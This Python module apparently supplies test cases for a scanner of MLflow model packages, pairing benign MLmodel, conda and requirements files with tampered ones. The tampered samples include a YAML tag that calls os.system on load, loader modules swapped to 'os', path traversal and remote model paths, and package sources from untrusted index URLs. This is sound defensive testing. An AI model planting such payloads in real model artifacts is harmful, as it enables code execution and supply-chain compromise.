"""MLflow's models: `MLmodel` as it writes it, and as it should not be."""

from collections.abc import Iterator

from assets.models.case import Case, one

SKLEARN = """artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.7
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.9.1
mlflow_version: 3.1.0
model_uuid: 1b4e28ba2fa111d2883f0016d3cca427
signature:
  inputs: '[{"type": "double", "name": "a"}]'
utc_time_created: '2026-01-01 00:00:00.000000'
"""
PYFUNC = """flavors:
  python_function:
    cloudpickle_version: 3.1.1
    code: null
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: mlflow.pyfunc.model
    python_model: python_model.pkl
    python_version: 3.11.7
    streamable: false
"""


def attacks() -> Iterator[tuple[str, str, str]]:
    yield "foreign-loader", SKLEARN.replace("mlflow.sklearn", "my_loader"), "mlflow-foreign-loader"
    yield "loader-of-python", SKLEARN.replace("mlflow.sklearn", "os"), "mlflow-foreign-loader"
    yield "code", SKLEARN.replace("    predict_fn: predict", "    code: code"), "mlflow-own-code"
    yield "model-from-code", PYFUNC.replace("    code: null", "    model_code_path: model.py"), "mlflow-own-code"
    yield "path-above", SKLEARN.replace("model_path: model.pkl", "model_path: ../../other.pkl"), "mlflow-outside-path"
    yield (
        "path-address",
        SKLEARN.replace("model_path: model.pkl", "data: https://example.com/model.pkl"),
        "mlflow-outside-path",
    )
    yield "path-root", PYFUNC.replace("python_model.pkl", "/tmp/python_model.pkl"), "mlflow-outside-path"
    yield "tag", SKLEARN + "extra: !!python/object/apply:os.system ['id']\n", "yaml-object-tag"


def cases() -> Iterator[Case]:
    for name, text, rule in attacks():
        yield one(f"mlflow/{name}", "malicious", text.encode(), "what loading it runs", rule, file="MLmodel")
    environment = (
        b"dependencies:\n- python=3.11\n- pip:\n  - --index-url=http://packages.example.com/simple\n  - numpy\n"
    )
    foreign = "requirements-foreign-source"
    yield one("mlflow/conda-index", "malicious", environment, "packages from an address", foreign, file="conda.yaml")
    yield one("mlflow/sklearn", "benign", SKLEARN.encode(), "as MLflow writes it", file="MLmodel")
    yield one("mlflow/python-function", "benign", PYFUNC.encode(), "as MLflow writes it", file="MLmodel")
    conda = b"channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n"
    conda += b"- pip<=23\n- pip:\n  - mlflow==3.1.0\n  - scikit-learn==1.9.1\nname: mlflow-env\n"
    yield one("mlflow/conda", "benign", conda, "an environment", file="conda.yaml")
    yield one(
        "mlflow/requirements",
        "benign",
        b"mlflow==3.1.0\nnumpy==2.4.6\nscikit-learn==1.9.1\n",
        "packages",
        file="requirements.txt",
    )
    linked = b"mlflow==3.1.0\n--extra-index-url http://packages.example.com/simple\nmy-package==1.0\n"
    yield one(
        "mlflow/requirements-index",
        "malicious",
        linked,
        "packages from an address",
        "requirements-foreign-source",
        file="requirements.txt",
    )
    bare = b"numpy\ntorch\n--index-url http://packages.example.com/simple\n"
    yield one(
        "mlflow/requirements-without-versions",
        "malicious",
        bare,
        "packages from an address",
        "requirements-foreign-source",
        file="requirements.txt",
    )
    direct = b"numpy==2.4.6\ntorch @ https://example.com/torch-2.0-py3-none-any.whl\n"
    yield one(
        "mlflow/requirements-address",
        "malicious",
        direct,
        "a package from an address",
        "requirements-foreign-source",
        file="requirements.txt",
    )
    git = b"git+https://github.com/someone/package.git@main\n"
    yield one(
        "mlflow/requirements-branch",
        "malicious",
        git,
        "a package at a branch",
        "requirements-foreign-source",
        file="requirements.txt",
    )
    pinned = b"git+https://github.com/someone/package.git@0123456789abcdef0123456789abcdef01234567\n"
    yield one("mlflow/requirements-commit", "benign", pinned, "a package at a commit", file="requirements.txt")
